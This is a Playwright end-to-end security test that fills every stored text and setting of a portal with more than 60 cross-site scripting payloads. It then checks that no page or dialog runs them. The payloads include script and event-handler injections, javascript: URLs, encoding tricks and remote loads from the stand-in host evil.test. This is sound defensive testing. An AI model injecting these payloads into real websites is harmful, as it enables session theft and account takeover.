import type { APIRequestContext, Page } from '@playwright/test'
import { fillTexts } from '../../../apps/server/src/testing/fill-texts.ts'
import { readBankAccounts } from '../../../packages/domain/src/company/bank-account.ts'
import { forEachDialog, refuseChanges } from '../../support/each-dialog.ts'
import { deskPages, memberPages } from '../../support/every-page.ts'
import { callAs, tokenOf } from '../../support/given-order.ts'
import { expect, test } from '../../support/own-server.ts'

// Every text that people type and the portal stores, replaced by something that a careless page would run, on every page that
// shows it: only in `npm run test:trust`.

test.describe.configure({ mode: 'default', timeout: 1_800_000 })

const act = 'ran()'
/** Ways to have a browser run something, each as a text of its own. */
const payloads: readonly string[] = [
  ...['script', 'SCRIPT', 'scr ipt'].map((tag) => `<${tag}>${act}</${tag}>`),
  `<script src=//evil.test/x></script>`,
  `<script>${act}//`,
  ...[
    'img src=x',
    'image src=x',
    'video src=x',
    'audio src=x',
    'body',
    'object data=x',
    'input autofocus type=image src=x',
  ].map((tag) => `<${tag} onerror=${act} onload=${act} onfocus=${act}>`),
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${act}>#x"></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<a href="javascript:${act}">x</a>`,
  `<a href="java&#10;script:${act}">x</a>`,
  `<a href="data:text/html,<script>opener.${act}</script>">x</a>`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<details open ontoggle=${act}>`,
  `<marquee onstart=${act}>`,
  `<style>@import "//evil.test/x.css"</style>`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<base href="//evil.test/">`,
  `<div style="background:url(//evil.test/x)">`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '--\u003e',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    ']]\u003e',
  ].map((end) => `${end}<img src=x onerror=${act}>`),
  `" onmouseover=${act} autofocus onfocus=${act} x="`,
  `' onmouseover=${act} x='`,
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `data:text/html,<script>${act}</script>`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `#{${act}}`,
  `<%= ${act} %>`,
  `<!--<img src="--><img src=x onerror=${act}>">`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;img src=x onerror=${act}&#62;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `\u202e<script>${act}</script>`,
  `＜script＞${act}＜/script＞`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `<xss id=x tabindex=1 onactivate=${act} onfocusin=${act}></xss>`,
  `<object classid="clsid:x"><param name=src value="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<isindex action="javascript:${act}" type=image>`,
  `<keygen autofocus onfocus=${act}>`,
]

type Setting = {
  readonly name: string
  readonly type: string
  readonly version: number
  readonly value_zh: string
}

/** Types them into every setting as the operator would, and returns those that took one: addresses, counts and choices refuse. */
async function typeIntoSettings(request: APIRequestContext): Promise<readonly string[]> {
  const { lists } = await callAs<{ readonly lists: readonly Setting[] }>(
    request,
    'operator',
    'GET',
    '/desk/setting',
  )
  const headers = { Authorization: `Bearer ${await tokenOf(request, 'operator')}` }
  const taken: string[] = []
  for (const [at, { name, type, version, value_zh }] of lists.entries()) {
    const text = payloads[at % payloads.length] ?? act
    const accounts = readBankAccounts(value_zh)
    const value =
      type === 'accounts'
        ? JSON.stringify(
            accounts.map((account) => ({ ...account, payee: text, bank: text, branch: text, note: text })),
          )
        : text
    const data = { version, value_zh: value, ...(type === 'text' ? { value_en: value } : {}) }
    const answer = await request.put(`/api/desk/setting/${name}`, { headers, data })
    if (answer.ok()) taken.push(name)
    else expect([400, 422], `${name}: ${await answer.text()}`).toContain(answer.status())
  }
  return taken
}

/** Everything that would show that a text was taken for more than text. */
async function listen(page: Page): Promise<string[]> {
  const heard: string[] = []
  await page.exposeFunction('ran', () => heard.push(`ran on ${page.url()}`))
  await page.exposeFunction('noteRefused', (what: string) => heard.push(`${what} on ${page.url()}`))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      // Exposed above.
      (window as unknown as { noteRefused(what: string): void }).noteRefused(
        `${violatedDirective} ${blockedURI}`,
      ),
    )
  })
  page.on('dialog', (dialog) => {
    // A page asks before it discards what a dialog has changed.
    if (dialog.type() === 'beforeunload') return void dialog.accept()
    heard.push(`dialog on ${page.url()}`)
    void dialog.dismiss()
  })
  page.on('request', (sent) => {
    if (/evil\.test|\/x$/.test(sent.url())) heard.push(`request of ${sent.url()} on ${page.url()}`)
  })
  return heard
}

/** Elements that only a payload would make; a mail is previewed in a frame of its own, in which nothing runs. */
const made =
  'img[src="x"], svg[onload], [onerror], [onload], [onfocus], [ontoggle], [onstart], iframe[srcdoc*="ran"]:not([sandbox=""]), a[href^="javascript" i], form[action^="javascript" i], base[href*="evil"], xss, marquee, script[src*="evil"], link[href*="evil"]'

/** How many of them a page and its frames have. */
async function countMade(page: Page): Promise<number> {
  const counts = await Promise.all(page.frames().map((frame) => frame.locator(made).count()))
  return counts.reduce((sum, count) => sum + count, 0)
}

async function visit(page: Page, addresses: readonly string[], heard: readonly string[]): Promise<number> {
  let shown = 0
  for (const address of addresses)
    await test.step(address, async () => {
      await page.goto(address)
      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
      await expect(page.locator('[aria-busy="true"]')).toHaveCount(0)
      expect(await countMade(page), address).toBe(0)
      if ((await page.getByText(act).count()) > 0) shown++
      expect(heard).toEqual([])
    })
  return shown
}

/** Opens the dialogs of the pages; returns how many there were and how many showed a text. */
async function visitDialogs(page: Page, addresses: readonly string[], heard: readonly string[]) {
  let opened = 0
  let shown = 0
  await refuseChanges(page)
  for (const address of addresses)
    await test.step(`dialogs of ${address}`, async () => {
      opened += await forEachDialog(page, address, async (title) => {
        expect(await countMade(page), `${title} on ${address}`).toBe(0)
        const dialog = page.getByRole('dialog').last()
        const texts = await dialog.evaluate(
          (element) =>
            `${element.textContent} ${[...element.querySelectorAll('input, textarea')].map((field) => (field as HTMLInputElement).value).join(' ')}`,
        )
        if (texts.includes(act)) shown++
        expect(heard).toEqual([])
      })
    })
  await page.unrouteAll()
  return { opened, shown }
}

test('no text is run, whichever page shows it', async ({
  page,
  request,
  lang,
  server,
  expectConsoleError,
}) => {
  expectConsoleError(/404|503/)
  expect(server.address).toContain('127.0.0.1')
  expect(payloads.length).toBeGreaterThanOrEqual(60)
  const [mine, theirs] = [await memberPages(request), await deskPages(request)]
  const filled = await fillTexts(server.databaseUrl ?? '', payloads)
  expect(filled.length).toBeGreaterThan(80)
  const settings = await typeIntoSettings(request)
  expect(settings).toEqual(
    expect.arrayContaining(['app_title', 'app_close_tips', 'issuer_name', 'bank_accounts']),
  )
  const heard = await listen(page)
  const enter = async (username: string) => {
    const data = { username, password: 'demo1234' }
    const { token } = (await (await request.post('/api/system/login', { data })).json()).data
    await page.goto(`/login?lang=${lang === 'zh' ? 'cn' : 'en'}`)
    await page.evaluate((value) => localStorage.setItem('token', value), token)
  }
  await enter('shipper@demo.test')
  const first = await visit(page, mine, heard)
  const firstDialogs = await visitDialogs(page, mine, heard)
  await enter('operator@demo.test')
  const second = await visit(page, theirs, heard)
  const secondDialogs = await visitDialogs(page, theirs, heard)
  const opened = firstDialogs.opened + secondDialogs.opened
  process.stdout.write(
    `scripts in texts: ${payloads.length} in ${filled.length} columns and ${settings.length} settings, shown on ${first + second} of ${mine.length + theirs.length} pages and in ${firstDialogs.shown + secondDialogs.shown} of ${opened} dialogs\n`,
  )
  // The texts were there to be run.
  expect([first > 8, second > 8, opened > 20]).toEqual([true, true, true])
  expect([firstDialogs.shown > 0, secondDialogs.shown > 0]).toEqual([true, true])
})
